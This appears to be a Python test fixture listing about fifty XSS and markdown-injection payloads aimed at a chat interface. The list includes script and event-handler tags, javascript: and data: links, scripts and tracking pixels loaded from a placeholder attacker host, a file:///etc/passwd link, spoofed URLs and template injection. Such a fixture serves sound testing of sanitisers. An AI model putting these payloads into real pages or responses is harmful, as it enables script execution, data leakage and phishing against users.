"""What somebody may write who wants more from a chat than words. `{evil}` is a host that must never be asked."""

from __future__ import annotations

_MARK = "window.broken=1"
PAYLOADS = [
    f"<script>{_MARK};alert(1)</script>",
    "<script src=\"{evil}/x.js\"></script>",
    f"</textarea><script>{_MARK}</script>",
    f"<img src=x onerror=\"{_MARK};alert(1)\">",
    "<img src=\"{evil}/pixel.png\">",
    f"<svg onload=\"{_MARK}\"></svg>",
    f"<svg><script>{_MARK}</script></svg>",
    f"<svg><animate onbegin=\"{_MARK}\" attributeName=x dur=1s></svg>",
    f"<body onload=\"{_MARK}\">",
    f"<iframe srcdoc=\"<script>parent.{_MARK}</script>\"></iframe>",
    "<iframe src=\"{evil}/\"></iframe>",
    f"<iframe src=\"javascript:parent.{_MARK}\"></iframe>",
    f"<details open ontoggle=\"{_MARK}\">x</details>",
    f"<input autofocus onfocus=\"{_MARK}\">",
    f"<video><source onerror=\"{_MARK}\"></video>",
    f"<math><mi xlink:href=\"javascript:{_MARK}\">x</mi></math>",
    "<link rel=stylesheet href=\"{evil}/x.css\">",
    "<style>@import '{evil}/x.css'; * {{ background: url({evil}/x.png) }}</style>",
    "<base href=\"{evil}/\">",
    "<meta http-equiv=refresh content=\"0;url={evil}/\">",
    "<form action=\"{evil}/\"><button>Go</button></form>",
    "<object data=\"{evil}/x\"></object>",
    f"<a href=\"javascript:{_MARK}\">press</a>",
    f"[press](javascript:{_MARK})",
    f"[press](JaVaScRiPt:{_MARK})",
    f"[press](java\tscript:{_MARK})",
    f"[press](&#106;avascript:{_MARK})",
    f"[press](\x01javascript:{_MARK})",
    f"[press](vbscript:{_MARK})",
    f"[press](data:text/html,<script>parent.{_MARK}</script>)",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[press](blob:{evil}/x)",
    "[press](file:///etc/passwd)",
    f"<javascript:{_MARK}>",
    f"[press][1]\n\n[1]: javascript:{_MARK}",
    "![look]({evil}/pixel.png)",
    "![look](data:image/svg+xml,<svg onload=alert(1)>)",
    "![look][2]\n\n[2]: {evil}/pixel.png",
    "[![look]({evil}/pixel.png)]({evil}/)",
    f"![\"onerror=\"{_MARK}](x)",
    "[a bank](https://bank.example@127.0.0.3:9/)",
    f"[x](https://ok.example/\"onmouseover=\"{_MARK})",
    f"`<script>{_MARK}</script>`",
    f"```\n</code></pre><script>{_MARK}</script>\n```",
    f"| a |\n|---|\n| <img src=x onerror={_MARK}> |",
    f"**<img src=x onerror={_MARK}>**",
    "\u202egnp.exe\u202c [press](http://127.0.0.3:9/)",
    "{{{{constructor.constructor('alert(1)')()}}}} ${{alert(1)}}",
]  # fmt: skip


def payloads(evil: str) -> list[str]:
    return [payload.replace("{{", "{").replace("}}", "}").replace("{evil}", evil) for payload in PAYLOADS]
